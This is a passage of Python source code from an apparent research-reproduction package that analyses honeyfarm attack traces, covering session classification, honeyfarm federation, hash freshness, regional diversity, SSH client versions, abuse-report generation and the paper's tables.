    no_cmd = success & (store.n_commands == 0)
    cmd_uri = success & (store.n_commands > 0) & store.has_uri
    cmd = success & (store.n_commands > 0) & (~store.has_uri)
    codes[no_cred] = 0
    codes[fail] = 1
    codes[no_cmd] = 2
    codes[cmd] = 3
    codes[cmd_uri] = 4
    return codes


def category_masks(store: "StoreOrContext") -> Dict[Category, np.ndarray]:
    """Boolean mask per category."""
    from repro.core.context import as_context

    ctx = as_context(store)
    return {cat: ctx.category_mask(i) for i, cat in enumerate(CATEGORIES)}


def category_shares(store: "StoreOrContext") -> Dict[Category, float]:
    """Fraction of all sessions in each category (Table 1 top row)."""
    from repro.core.context import as_context

    codes = as_context(store).category_codes
    n = len(codes)
    if n == 0:
        return {cat: 0.0 for cat in CATEGORIES}
    return {
        cat: float((codes == i).sum()) / n for i, cat in enumerate(CATEGORIES)
    }


def behavior_masks(store: "StoreOrContext") -> Dict[str, np.ndarray]:
    """Masks for the scanning / scouting / intrusion behaviours."""
    masks = category_masks(store)
    return {
        "scanning": masks[Category.NO_CRED],
        "scouting": masks[Category.FAIL_LOG],
        "intrusion": (
            masks[Category.NO_CMD] | masks[Category.CMD] | masks[Category.CMD_URI]
        ),
    }
