"""Federated honeyfarms (paper Section 9, "Federated Honeyfarms").

The paper argues that independently operated honeyfarms should share data:
even the best honeypots see only a small fraction of the farm's hashes, so
federation should improve both visibility (union coverage) and detection
latency (earliest sighting).  This module quantifies that argument on a
trace: split the farm into ``k`` independent sub-farms and compare each
sub-farm's hash coverage and first-sighting times against the federation
of all of them.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List, Optional

import numpy as np

from repro.core.hashes import HashOccurrences
from repro.simulation.rng import RngStream


@dataclass
class SubFarmStats:
    """Visibility of one sub-farm."""

    honeypots: np.ndarray  # honeypot indices in this sub-farm
    n_hashes: int  # unique hashes this sub-farm observes
    coverage: float  # fraction of all farm hashes observed
    mean_detection_lag: float  # mean days behind the federation's first sighting


@dataclass
class FederationReport:
    sub_farms: List[SubFarmStats]
    n_hashes_total: int

    @property
    def mean_coverage(self) -> float:
        if not self.sub_farms:
            return 0.0
        return float(np.mean([s.coverage for s in self.sub_farms]))

    @property
    def best_coverage(self) -> float:
        if not self.sub_farms:
            return 0.0
        return max(s.coverage for s in self.sub_farms)

    @property
    def federation_gain(self) -> float:
        """Union coverage (=1.0) over the best single sub-farm's coverage."""
        best = self.best_coverage
        return 1.0 / best if best > 0 else float("inf")

    @property
    def mean_detection_lag(self) -> float:
        if not self.sub_farms:
            return 0.0
        return float(np.mean([s.mean_detection_lag for s in self.sub_farms]))


def split_farm(
    n_honeypots: int, k: int, rng: Optional[RngStream] = None
) -> List[np.ndarray]:
    """Partition honeypot indices into ``k`` (roughly equal) sub-farms."""
    if k < 1:
        raise ValueError("need at least one sub-farm")
    indices = np.arange(n_honeypots)
    if rng is not None:
        indices = np.asarray(rng.shuffled(list(indices)))
    return [np.sort(part) for part in np.array_split(indices, k)]


def federation_report(
    occ: HashOccurrences, k: int = 4, rng: Optional[RngStream] = None
) -> FederationReport:
    """Compare ``k`` independent sub-farms against their federation."""
    store = occ.store
    parts = split_farm(store.n_honeypots, k, rng)
    n_total = occ.n_hashes
    if len(occ) == 0:
        return FederationReport(sub_farms=[], n_hashes_total=0)

    pots = store.honeypot[occ.session_idx]
    days = store.day[occ.session_idx]

    # Federation-wide first sighting per hash.
    n_hash_ids = len(store.hashes)
    fed_first = np.full(n_hash_ids, np.iinfo(np.int32).max, dtype=np.int64)
    np.minimum.at(fed_first, occ.hash_id, days)

    sub_farms: List[SubFarmStats] = []
    for part in parts:
        member = np.isin(pots, part)
        sub_hashes = occ.hash_id[member]
        sub_days = days[member]
        unique_hashes = np.unique(sub_hashes)
        # Sub-farm first sighting per hash it observes.
        sub_first = np.full(n_hash_ids, np.iinfo(np.int32).max, dtype=np.int64)
        np.minimum.at(sub_first, sub_hashes, sub_days)
        lags = sub_first[unique_hashes] - fed_first[unique_hashes]
        sub_farms.append(
            SubFarmStats(
                honeypots=part,
                n_hashes=len(unique_hashes),
                coverage=len(unique_hashes) / n_total if n_total else 0.0,
                mean_detection_lag=float(lags.mean()) if len(lags) else 0.0,
            )
        )
    return FederationReport(sub_farms=sub_farms, n_hashes_total=n_total)


def coverage_by_farm_size(
    occ: HashOccurrences,
    sizes: List[int],
    rng: RngStream,
    trials: int = 3,
) -> Dict[int, float]:
    """Mean hash coverage of a random sub-farm of each size.

    The marginal-value-of-scale curve behind the paper's conclusion that
    "to capture the tail one has to have scale and diversity".
    """
    store = occ.store
    pots = store.honeypot[occ.session_idx]
    n_total = occ.n_hashes
    out: Dict[int, float] = {}
    for size in sizes:
        size = min(size, store.n_honeypots)
        coverages = []
        for _ in range(trials):
            chosen = np.asarray(
                rng.sample(list(range(store.n_honeypots)), size)
            )
            member = np.isin(pots, chosen)
            coverages.append(
                len(np.unique(occ.hash_id[member])) / n_total if n_total else 0.0
            )
        out[size] = float(np.mean(coverages))
    return out
