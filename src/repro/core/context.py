"""Shared, lazily memoized analysis state.

``full_report`` touches nearly every analysis in :mod:`repro.core`, and many
of them start from the same expensive intermediates: the per-session category
codes, the hash-occurrence index, per-client groupbys.  Recomputing those in
every function kept each one self-contained but made a full report do the
same classification pass over a dozen times.

:class:`AnalysisContext` wraps a store and computes each intermediate at most
once, on first access.  Every ``repro.core`` entry point accepts either a
plain :class:`~repro.store.store.SessionStore` (computing what it needs, as
before) or a context (reusing whatever has already been computed) — call
sites never need to change, they only get faster when they share a context.

The properties resolve ``classify`` / ``hashes`` / ``clients`` through their
modules at call time, so tests (and callers) that monkeypatch e.g.
``repro.core.classify.classify_store`` observe exactly one call per context.
"""

from __future__ import annotations

from typing import Dict, Optional, Union

import numpy as np

from repro.obs import inc as _metric_inc
from repro.store.store import SessionStore


class AnalysisContext:
    """A store plus memoized derived state shared across analyses.

    Every memoized property counts its cache traffic into the current
    metrics registry (``context.<property>.hit`` / ``.miss``), so a report
    run shows exactly how much recomputation the shared context saved.
    """

    def __init__(self, store: SessionStore, intel=None):
        self.store = store
        self.intel = intel
        self._category_codes: Optional[np.ndarray] = None
        self._category_masks: Dict[int, np.ndarray] = {}
        self._hash_occurrences = None
        self._hash_stats = None
        self._daily_totals: Optional[np.ndarray] = None
        self._pots_per_client: Optional[np.ndarray] = None
        self._days_per_client: Optional[np.ndarray] = None

    @classmethod
    def from_dataset(cls, dataset) -> "AnalysisContext":
        """Context over a :class:`HoneyfarmDataset`'s store, with its intel."""
        return cls(dataset.store, intel=dataset.intel)

    # -- memoized intermediates ---------------------------------------------

    @staticmethod
    def _cache_traffic(name: str, hit: bool) -> None:
        _metric_inc(f"context.{name}.{'hit' if hit else 'miss'}")
        _metric_inc(f"context.{'hits' if hit else 'misses'}")

    @property
    def category_codes(self) -> np.ndarray:
        """Per-session category codes (indices into ``classify.CATEGORIES``)."""
        self._cache_traffic("category_codes", self._category_codes is not None)
        if self._category_codes is None:
            from repro.core import classify

            self._category_codes = classify.classify_store(self.store)
        return self._category_codes

    def category_mask(self, index: int) -> np.ndarray:
        """Boolean session mask for category code ``index``."""
        mask = self._category_masks.get(index)
        self._cache_traffic("category_mask", mask is not None)
        if mask is None:
            mask = self.category_codes == index
            self._category_masks[index] = mask
        return mask

    @property
    def hash_occurrences(self):
        """The (session, hash) occurrence index (``HashOccurrences``)."""
        self._cache_traffic("hash_occurrences", self._hash_occurrences is not None)
        if self._hash_occurrences is None:
            from repro.core import hashes

            self._hash_occurrences = hashes.HashOccurrences.build(self.store)
        return self._hash_occurrences

    @property
    def hash_stats(self):
        """Per-hash aggregate stats derived from :attr:`hash_occurrences`."""
        self._cache_traffic("hash_stats", self._hash_stats is not None)
        if self._hash_stats is None:
            from repro.core import hashes

            self._hash_stats = hashes.compute_hash_stats(self.hash_occurrences)
        return self._hash_stats

    @property
    def daily_totals(self) -> np.ndarray:
        """Farm-wide session count per day."""
        self._cache_traffic("daily_totals", self._daily_totals is not None)
        if self._daily_totals is None:
            from repro.core import timeseries

            self._daily_totals = timeseries.daily_totals(self.store)
        return self._daily_totals

    @property
    def pots_per_client(self) -> np.ndarray:
        """Distinct honeypots contacted per client IP (no mask)."""
        self._cache_traffic("pots_per_client", self._pots_per_client is not None)
        if self._pots_per_client is None:
            from repro.core import clients

            self._pots_per_client = clients.honeypots_per_client(self.store)
        return self._pots_per_client

    @property
    def days_per_client(self) -> np.ndarray:
        """Distinct active days per client IP (no mask)."""
        self._cache_traffic("days_per_client", self._days_per_client is not None)
        if self._days_per_client is None:
            from repro.core import clients

            self._days_per_client = clients.days_per_client(self.store)
        return self._days_per_client


#: What every ``repro.core`` entry point accepts in its store argument.
StoreOrContext = Union[SessionStore, AnalysisContext]


def as_context(obj: StoreOrContext) -> AnalysisContext:
    """Coerce a store-or-context argument to a context.

    Stores get a fresh private context (the pre-context behaviour: derived
    state is computed on demand and shared within the one call).  Contexts
    pass through, so repeated calls share their memoized state.
    """
    if isinstance(obj, AnalysisContext):
        return obj
    return AnalysisContext(obj)


def as_store(obj: StoreOrContext) -> SessionStore:
    """Unwrap a store-or-context argument to the underlying store.

    For functions that only read raw columns and have nothing to memoize.
    """
    if isinstance(obj, AnalysisContext):
        return obj.store
    return obj
