"""The paper's analyses.

Everything in this package operates on a frozen
:class:`~repro.store.store.SessionStore` (plus the geo registry and intel
database where needed) and reproduces the computations behind the paper's
tables and figures:

* `classify` — the session taxonomy (Fig 5, Table 1);
* `activity` — per-honeypot session skew (Fig 2);
* `timeseries` — daily percentile bands and category fractions
  (Figs 3, 4, 6, 8, 9);
* `durations` — session-duration ECDFs (Fig 7);
* `clients` — client-IP analyses (Figs 10-15);
* `diversity` — client/honeypot regional diversity (Figs 16, 24);
* `hashes` — file-hash / campaign analyses (Figs 18-22, Tables 4-6);
* `freshness` — fresh-hash sliding-window metrics (Fig 17);
* `tables` — Tables 1-6 builders;
* `report` — the whole-paper report orchestrator.

Every entry point accepts either a store or an
:class:`~repro.core.context.AnalysisContext`; pass one context to several
analyses to share the expensive intermediates (classification, the hash
occurrence index, per-client groupbys) instead of recomputing them.
"""

from repro.core.classify import Category, classify_store, category_masks
from repro.core.context import AnalysisContext, StoreOrContext, as_context, as_store
from repro.core.ecdf import Ecdf
from repro.core.activity import sessions_per_honeypot, top_k_share, activity_knee
from repro.core import (
    activity,
    asns,
    blocking,
    campaign_detect,
    classify,
    clients,
    context,
    diversity,
    durations,
    federation,
    freshness,
    hashes,
    notify,
    tables,
    timeseries,
    versions,
)

__all__ = [
    "AnalysisContext",
    "StoreOrContext",
    "as_context",
    "as_store",
    "Category",
    "classify_store",
    "category_masks",
    "Ecdf",
    "sessions_per_honeypot",
    "top_k_share",
    "activity_knee",
    "activity",
    "asns",
    "blocking",
    "campaign_detect",
    "classify",
    "clients",
    "context",
    "diversity",
    "durations",
    "federation",
    "freshness",
    "hashes",
    "notify",
    "tables",
    "timeseries",
    "versions",
]
