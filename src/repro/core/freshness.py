"""Hash freshness over time (paper Figure 17, Section 8.3).

For each day we count the unique hashes observed and the fraction that are
*fresh*: never seen before, or not seen within the last 7 / 30 days (the
paper's sliding-window variants).  The paper finds the daily fresh share
ranges from 2% up to 60%, and grows as the memory window shrinks.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, Optional

import numpy as np

from repro.core.hashes import HashOccurrences


@dataclass
class FreshnessReport:
    """Per-day unique-hash counts and fresh fractions."""

    unique_per_day: np.ndarray
    fresh_all_time: np.ndarray  # count of first-ever-seen hashes per day
    fresh_window: Dict[int, np.ndarray]  # window days -> fresh counts

    def fresh_fraction(self, window: Optional[int] = None) -> np.ndarray:
        """Daily fresh share (NaN-free: 0 where no hashes were seen)."""
        fresh = self.fresh_all_time if window is None else self.fresh_window[window]
        safe = np.where(self.unique_per_day > 0, self.unique_per_day, 1)
        return fresh / safe


def _hash_day_pairs(occ: HashOccurrences) -> np.ndarray:
    """Sorted unique (hash, day) keys."""
    days = occ.store.day[occ.session_idx].astype(np.uint64)
    key = (occ.hash_id.astype(np.uint64) << np.uint64(16)) | days
    return np.unique(key)


def freshness_report(occ: HashOccurrences, windows=(7, 30)) -> FreshnessReport:
    n_days = occ.store.n_days
    pairs = _hash_day_pairs(occ)
    if len(pairs) == 0:
        zero = np.zeros(n_days, dtype=np.int64)
        return FreshnessReport(zero, zero.copy(), {w: zero.copy() for w in windows})
    pair_hash = (pairs >> np.uint64(16)).astype(np.int64)
    pair_day = (pairs & np.uint64(0xFFFF)).astype(np.int64)

    unique_per_day = np.bincount(pair_day, minlength=n_days)

    # First-ever appearance per hash: pairs are sorted by (hash, day), so a
    # hash's first pair starts each hash group.
    first_of_hash = np.concatenate(([True], pair_hash[1:] != pair_hash[:-1]))
    fresh_all = np.bincount(pair_day[first_of_hash], minlength=n_days)

    # Window freshness: a (hash, day) is fresh for window w when the
    # previous sighting of the hash is more than w days back (or absent).
    prev_day = np.empty_like(pair_day)
    prev_day[first_of_hash] = -(10 ** 6)
    not_first = ~first_of_hash
    prev_day[not_first] = pair_day[np.nonzero(not_first)[0] - 1]
    gap = pair_day - prev_day

    fresh_window: Dict[int, np.ndarray] = {}
    for w in windows:
        fresh = gap > w
        fresh_window[w] = np.bincount(pair_day[fresh], minlength=n_days)
    return FreshnessReport(
        unique_per_day=unique_per_day,
        fresh_all_time=fresh_all,
        fresh_window=fresh_window,
    )


def fresh_hashes_per_honeypot(occ: HashOccurrences) -> np.ndarray:
    """First-seen (farm-wide fresh) hash count credited per honeypot.

    A hash's discovery is credited to the honeypot that recorded it in its
    earliest session; the paper finds the pots collecting the most hashes
    are typically also the earliest observers (Section 8.4).
    """
    store = occ.store
    start = store.start_time[occ.session_idx]
    order = np.lexsort((start, occ.hash_id))
    hashes_sorted = occ.hash_id[order]
    first = np.concatenate(([True], hashes_sorted[1:] != hashes_sorted[:-1]))
    first_sessions = occ.session_idx[order][first]
    pots = store.honeypot[first_sessions]
    return np.bincount(pots, minlength=store.n_honeypots)
