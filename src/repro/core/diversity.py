"""Regional diversity of client/honeypot interactions (Figures 16, 24).

For every session we classify the geographic relation between the client
and the honeypot it contacted (same country / same continent / different
continent), then aggregate per client per day into the combination classes
the paper plots: most clients only ever touch honeypots outside their own
continent, while CMD+URI clients show markedly more locality.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List, Optional, Sequence

import numpy as np

from repro.core.classify import CATEGORIES
from repro.core.context import StoreOrContext, as_context, as_store
from repro.geo.continents import COUNTRY_CONTINENT, Continent

#: Relation bits aggregated per (client, day).
BIT_SAME_COUNTRY = 1
BIT_SAME_CONTINENT = 2  # same continent, different country
BIT_OUT_CONTINENT = 4

COMBO_NAMES: Dict[int, str] = {
    1: "in-country only",
    2: "in-continent only",
    3: "in-country + in-continent",
    4: "out-of-continent only",
    5: "in-country + out",
    6: "in-continent + out",
    7: "in-country + in-continent + out",
}


def _continent_codes(countries: Sequence[str]) -> np.ndarray:
    continents = sorted(Continent, key=lambda c: c.value)
    index = {c: i for i, c in enumerate(continents)}
    return np.array(
        [index[COUNTRY_CONTINENT[cc]] if cc in COUNTRY_CONTINENT else -1
         for cc in countries],
        dtype=np.int8,
    )


def session_relations(
    store: StoreOrContext,
    pot_countries: Sequence[str],
    mask: Optional[np.ndarray] = None,
) -> np.ndarray:
    """Per-session relation bit (1, 2 or 4) between client and honeypot.

    Country-string comparisons and continent lookups happen once per
    *table entry* (dozens), then fan out to the sessions with integer
    gathers — no per-session Python work.
    """
    store = as_store(store)
    if mask is None:
        client_country_ids = store.client_country
        pots = store.honeypot
    else:
        idx = np.nonzero(mask)[0]
        client_country_ids = store.client_country[idx]
        pots = store.honeypot[idx]

    table_cont = _continent_codes(store.countries.values())
    pot_list = list(pot_countries)
    pot_cont = _continent_codes(pot_list)
    # Each pot's country as an id in the store's country table (-1 when no
    # client ever came from it; ids are unique, so id equality is string
    # equality).
    pot_country_id = np.array(
        [store.countries.id_of(cc) if cc in store.countries else -1
         for cc in pot_list],
        dtype=np.int64,
    )

    same_country = client_country_ids == pot_country_id[pots]
    client_cont = table_cont[client_country_ids]
    same_continent = (client_cont == pot_cont[pots]) & (client_cont >= 0)

    relation = np.full(len(client_country_ids), BIT_OUT_CONTINENT,
                       dtype=np.uint8)
    relation[same_continent] = BIT_SAME_CONTINENT
    relation[same_country] = BIT_SAME_COUNTRY
    return relation


@dataclass
class DiversityReport:
    """Figure 16's content: daily combination counts + daily client totals."""

    daily_combos: Dict[int, np.ndarray]  # combo bitmask -> per-day client count
    daily_clients: np.ndarray

    def share_of(self, combo: int) -> float:
        """Overall share of client-days in a combination class."""
        total = sum(int(v.sum()) for v in self.daily_combos.values())
        if total == 0:
            return 0.0
        return int(self.daily_combos.get(combo, np.zeros(1)).sum()) / total

    @property
    def out_only_share(self) -> float:
        return self.share_of(BIT_OUT_CONTINENT)

    @property
    def any_local_share(self) -> float:
        """Share of client-days touching at least one same-country pot."""
        return self._share_with_bit(BIT_SAME_COUNTRY)

    @property
    def any_out_share(self) -> float:
        """Share of client-days touching at least one off-continent pot."""
        return self._share_with_bit(BIT_OUT_CONTINENT)

    def _share_with_bit(self, bit: int) -> float:
        total = sum(int(v.sum()) for v in self.daily_combos.values())
        if total == 0:
            return 0.0
        matching = sum(
            int(v.sum()) for combo, v in self.daily_combos.items()
            if combo & bit
        )
        return matching / total


def regional_diversity(
    store: StoreOrContext,
    pot_countries: Sequence[str],
    mask: Optional[np.ndarray] = None,
) -> DiversityReport:
    """Aggregate session relations per (client, day) into combo classes."""
    store = as_store(store)
    idx_mask = np.ones(len(store), dtype=bool) if mask is None else mask
    relation = session_relations(store, pot_countries, idx_mask)
    idx = np.nonzero(idx_mask)[0]
    key = (
        (store.client_ip[idx].astype(np.uint64) << np.uint64(16))
        | store.day[idx].astype(np.uint64)
    )
    order = np.argsort(key)
    sorted_key = key[order]
    sorted_rel = relation[order]
    group_start = np.concatenate(([True], sorted_key[1:] != sorted_key[:-1])) \
        if len(sorted_key) else np.zeros(0, dtype=bool)
    if not len(sorted_key):
        return DiversityReport(daily_combos={}, daily_clients=np.zeros(store.n_days))
    group_ids = np.cumsum(group_start) - 1
    n_groups = int(group_ids[-1]) + 1
    combo = np.zeros(n_groups, dtype=np.uint8)
    np.bitwise_or.at(combo, group_ids, sorted_rel)
    group_day = (sorted_key[group_start] & np.uint64(0xFFFF)).astype(np.int64)

    n_days = store.n_days
    daily_combos: Dict[int, np.ndarray] = {}
    for bits in COMBO_NAMES:
        member = combo == bits
        daily_combos[bits] = np.bincount(group_day[member], minlength=n_days)
    daily_clients = np.bincount(group_day, minlength=n_days)
    return DiversityReport(daily_combos=daily_combos, daily_clients=daily_clients)


def diversity_by_category(
    store: StoreOrContext, pot_countries: Sequence[str]
) -> Dict[str, DiversityReport]:
    """Figure 24: a diversity report per session category."""
    ctx = as_context(store)
    out: Dict[str, DiversityReport] = {}
    for i, cat in enumerate(CATEGORIES):
        out[cat.value] = regional_diversity(
            ctx.store, pot_countries, ctx.category_mask(i)
        )
    return out
