"""SSH client-version analysis.

The honeypot records the client's SSH version string when one is offered
during the handshake (Section 4).  Related work (Ghiëtte et al., RAID'19)
fingerprints attack tooling from exactly these strings; this module
provides the farm-side counterpart: version popularity overall and per
session category.
"""

from __future__ import annotations

from typing import Dict, List, Optional, Tuple

import numpy as np

from repro.core.classify import CATEGORIES
from repro.core.context import StoreOrContext, as_context, as_store


def version_counts(
    store: StoreOrContext, mask: Optional[np.ndarray] = None
) -> List[Tuple[str, int]]:
    """(version, session count) sorted by popularity."""
    store = as_store(store)
    versions = store.version_id if mask is None else store.version_id[mask]
    versions = versions[versions >= 0]
    counts = np.bincount(versions, minlength=len(store.versions))
    order = np.argsort(counts)[::-1]
    return [
        (store.versions.value_of(int(i)), int(counts[i]))
        for i in order
        if counts[i] > 0
    ]


def versions_by_category(store: StoreOrContext) -> Dict[str, List[Tuple[str, int]]]:
    ctx = as_context(store)
    return {
        cat.value: version_counts(ctx.store, ctx.category_mask(i))
        for i, cat in enumerate(CATEGORIES)
    }


def version_offer_rate(store: StoreOrContext) -> float:
    """Fraction of SSH sessions that offered a client version string."""
    store = as_store(store)
    ssh = store.is_ssh
    if not ssh.any():
        return 0.0
    return float((store.version_id[ssh] >= 0).mean())


def distinct_tools(store: StoreOrContext) -> int:
    """Number of distinct client version strings observed.

    Ghiëtte et al. identified 49 distinct SSH tools in a month of data;
    the count here plays the same role for the synthetic trace.
    """
    store = as_store(store)
    observed = np.unique(store.version_id[store.version_id >= 0])
    return len(observed)
