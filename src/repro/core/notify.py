"""Abuse notification reports (the paper's stated ongoing work).

The conclusion announces plans to "coordinate with the honeyfarm operator
with the aim to jointly notify networks participating in connections to
the honeyfarm".  This module builds those notifications: one report per
origin AS, listing the AS's offending IPs, their behaviours, the involved
file hashes, and the evidence window — the artefact an operator would mail
to an abuse contact.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional

import numpy as np

from repro.core.context import StoreOrContext, as_context
from repro.intel.database import IntelDatabase
from repro.simulation.clock import day_to_date


@dataclass
class OffendingIp:
    ip: int
    n_sessions: int
    behaviours: List[str]  # scanning / scouting / intrusion
    first_day: int
    last_day: int
    hashes: List[str] = field(default_factory=list)


@dataclass
class AbuseReport:
    """The per-AS notification artefact."""

    asn: int
    country: str
    n_sessions: int
    window_start: str  # ISO dates, human-readable evidence window
    window_end: str
    ips: List[OffendingIp]
    n_hashes: int
    tagged_hashes: Dict[str, int]  # threat tag -> hash count

    @property
    def severity(self) -> str:
        """Triage label: intrusion evidence outranks scanning volume."""
        if self.n_hashes > 0:
            return "critical"
        if any("intrusion" in ip.behaviours for ip in self.ips):
            return "high"
        if any("scouting" in ip.behaviours for ip in self.ips):
            return "medium"
        return "low"

    def render(self) -> str:
        """Plain-text notification body."""
        lines = [
            f"Abuse report for AS{self.asn} ({self.country}) "
            f"[severity: {self.severity}]",
            f"Evidence window: {self.window_start} .. {self.window_end}",
            f"Sessions against our honeypot infrastructure: {self.n_sessions:,}",
            f"Offending addresses: {len(self.ips)}",
        ]
        for offender in self.ips[:20]:
            from repro.net.ip import format_ip
            lines.append(
                f"  {format_ip(offender.ip)}: {offender.n_sessions:,} sessions, "
                f"{'/'.join(offender.behaviours)}, "
                f"{len(offender.hashes)} malware hashes"
            )
        if self.n_hashes:
            tags = ", ".join(f"{tag}: {count}"
                             for tag, count in sorted(self.tagged_hashes.items()))
            lines.append(f"Associated file hashes: {self.n_hashes} ({tags})")
        return "\n".join(lines)


@dataclass
class FreshHashNotice:
    """The notification sent when a never-before-seen file hash lands.

    This is the paper's operational notification path in miniature: GCA's
    pipeline alerted on freshly observed hashes so operators (and later,
    origin networks) could react while the campaign was young.  The live
    farm-health monitor (:mod:`repro.farm.health`) builds one of these per
    fresh hash as the alert fires; :func:`build_abuse_reports` is the
    batch counterpart over a finished store.
    """

    sha256: str
    first_seen: float  # simulation seconds
    honeypot_id: str
    client_ip: int
    session_id: str = ""
    uri: str = ""
    tag: str = "unknown"

    @property
    def severity(self) -> str:
        # A fresh hash is always actionable; a known-bad tag escalates it.
        return "critical" if self.tag not in ("unknown", "clean") else "high"

    def render(self) -> str:
        """Plain-text notification body."""
        from repro.net.ip import format_ip

        lines = [
            f"Fresh file hash observed [severity: {self.severity}]",
            f"sha256: {self.sha256}",
            f"first seen: t={self.first_seen:.1f}s on {self.honeypot_id} "
            f"(session {self.session_id or '?'})",
            f"dropped by: {format_ip(self.client_ip)}",
        ]
        if self.uri:
            lines.append(f"retrieved from: {self.uri}")
        if self.tag != "unknown":
            lines.append(f"threat intel: {self.tag}")
        return "\n".join(lines)


_BEHAVIOUR_OF_CODE = {0: "scanning", 1: "scouting", 2: "intrusion",
                      3: "intrusion", 4: "intrusion"}


def build_abuse_reports(
    store: StoreOrContext,
    intel: IntelDatabase,
    min_sessions: int = 10,
    top_k_ases: Optional[int] = 50,
) -> List[AbuseReport]:
    """One report per origin AS with at least ``min_sessions`` sessions."""
    ctx = as_context(store)
    store = ctx.store
    codes = ctx.category_codes
    valid = store.client_asn >= 0
    asns, counts = np.unique(store.client_asn[valid], return_counts=True)
    order = np.argsort(counts)[::-1]
    chosen = [int(a) for a, c in zip(asns[order], counts[order])
              if c >= min_sessions]
    if top_k_ases is not None:
        chosen = chosen[:top_k_ases]

    reports: List[AbuseReport] = []
    for asn in chosen:
        mask = store.client_asn == asn
        idx = np.nonzero(mask)[0]
        n_sessions = len(idx)

        country = store.countries.value_of(int(store.client_country[idx[0]]))
        first_day = int(store.day[idx].min())
        last_day = int(store.day[idx].max())

        ips: Dict[int, OffendingIp] = {}
        tagged: Dict[str, int] = {}
        all_hashes = set()
        for i in idx:
            ip = int(store.client_ip[i])
            offender = ips.get(ip)
            day = int(store.day[i])
            behaviour = _BEHAVIOUR_OF_CODE[int(codes[i])]
            if offender is None:
                offender = OffendingIp(
                    ip=ip, n_sessions=0, behaviours=[],
                    first_day=day, last_day=day,
                )
                ips[ip] = offender
            offender.n_sessions += 1
            offender.first_day = min(offender.first_day, day)
            offender.last_day = max(offender.last_day, day)
            if behaviour not in offender.behaviours:
                offender.behaviours.append(behaviour)
            for hash_id in store.hash_ids[int(i)]:
                sha = store.hashes.value_of(hash_id)
                if sha not in all_hashes:
                    all_hashes.add(sha)
                    tag = intel.tag_of(sha).value
                    tagged[tag] = tagged.get(tag, 0) + 1
                if sha not in offender.hashes:
                    offender.hashes.append(sha)

        offenders = sorted(ips.values(), key=lambda o: -o.n_sessions)
        reports.append(AbuseReport(
            asn=asn,
            country=country,
            n_sessions=n_sessions,
            window_start=day_to_date(first_day).isoformat(),
            window_end=day_to_date(last_day).isoformat(),
            ips=offenders,
            n_hashes=len(all_hashes),
            tagged_hashes=tagged,
        ))
    return reports
