"""Builders for the paper's tables.

* Table 1 — session-category shares, overall and per protocol;
* Table 2 — most used successful passwords;
* Table 3 — most popular commands (split at ";" and "|");
* Tables 4/5/6 — top-20 hashes by sessions / client IPs / active days
  (thin wrappers over :mod:`repro.core.hashes`).
"""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass
from typing import Dict, List, Optional, Tuple

import numpy as np

from repro.core.classify import CATEGORIES
from repro.core.context import StoreOrContext, as_context, as_store
from repro.core.hashes import HashTableRow, top_hash_table
from repro.intel.database import IntelDatabase
from repro.store.store import PROTOCOL_SSH, PROTOCOL_TELNET


@dataclass
class CategoryTable:
    """Table 1: overall category shares and per-protocol splits."""

    overall: Dict[str, float]  # category -> share of all sessions
    ssh_share_of_category: Dict[str, float]  # category -> SSH share
    protocol_totals: Dict[str, float]  # "ssh"/"telnet" -> share of sessions


def table1_categories(store: StoreOrContext) -> CategoryTable:
    ctx = as_context(store)
    store = ctx.store
    n = max(len(store), 1)
    overall: Dict[str, float] = {}
    ssh_share: Dict[str, float] = {}
    is_ssh = store.protocol == PROTOCOL_SSH
    for i, cat in enumerate(CATEGORIES):
        mask = ctx.category_mask(i)
        count = int(mask.sum())
        overall[cat.value] = count / n
        ssh_share[cat.value] = float(is_ssh[mask].mean()) if count else 0.0
    return CategoryTable(
        overall=overall,
        ssh_share_of_category=ssh_share,
        protocol_totals={
            "ssh": float(is_ssh.mean()),
            "telnet": float((store.protocol == PROTOCOL_TELNET).mean()),
        },
    )


def table2_passwords(store: StoreOrContext, k: int = 10) -> List[Tuple[str, int]]:
    """Table 2: top successful passwords by login count."""
    store = as_store(store)
    mask = store.login_success & (store.password_id >= 0)
    counts = np.bincount(store.password_id[mask], minlength=len(store.passwords))
    order = np.argsort(counts)[::-1]
    out: List[Tuple[str, int]] = []
    for idx in order[:k]:
        if counts[idx] == 0:
            break
        out.append((store.passwords.value_of(int(idx)), int(counts[idx])))
    return out


def failed_usernames(store: StoreOrContext, k: int = 10) -> List[Tuple[str, int]]:
    """Most used usernames on failing sessions (Section 6 mentions
    "nproc", "admin" and "user" at the top)."""
    ctx = as_context(store)
    store = ctx.store
    mask = ctx.category_mask(1) & (store.username_id >= 0)
    counts = np.bincount(store.username_id[mask], minlength=len(store.usernames))
    order = np.argsort(counts)[::-1]
    out: List[Tuple[str, int]] = []
    for idx in order[:k]:
        if counts[idx] == 0:
            break
        out.append((store.usernames.value_of(int(idx)), int(counts[idx])))
    return out


def table3_commands(store: StoreOrContext, k: int = 20) -> List[Tuple[str, int]]:
    """Table 3: most popular commands, weighted by session occurrences.

    The store interns command scripts, so the count of a command is the sum
    of sessions over the scripts containing it (commands are already split
    at ";" and "|" by the shell, matching the paper's method).
    """
    store = as_store(store)
    script_sessions = np.bincount(
        store.script_id[store.script_id >= 0], minlength=len(store.scripts)
    )
    counter: Counter = Counter()
    for script_id, sessions in enumerate(script_sessions):
        if sessions == 0:
            continue
        for command in store.scripts[script_id].commands:
            counter[command] += int(sessions)
    return counter.most_common(k)


@dataclass
class HashTables:
    """Tables 4/5/6: the top-k hashes under each of the paper's orderings.

    Supports ``tables.by_sessions`` attribute access and, for callers
    written against the old dict return type, ``tables["by_sessions"]``.
    """

    by_sessions: List[HashTableRow]
    by_clients: List[HashTableRow]
    by_days: List[HashTableRow]

    #: The orderings, in table number order (4, 5, 6).
    KEYS = ("by_sessions", "by_clients", "by_days")

    def __getitem__(self, key: str) -> List[HashTableRow]:
        if key not in self.KEYS:
            raise KeyError(key)
        return getattr(self, key)

    def __iter__(self):
        return iter(self.KEYS)

    def keys(self) -> Tuple[str, ...]:
        return self.KEYS

    def values(self) -> List[List[HashTableRow]]:
        return [getattr(self, key) for key in self.KEYS]

    def items(self) -> List[Tuple[str, List[HashTableRow]]]:
        return [(key, getattr(self, key)) for key in self.KEYS]


def tables_4_5_6(
    store: StoreOrContext,
    intel: IntelDatabase,
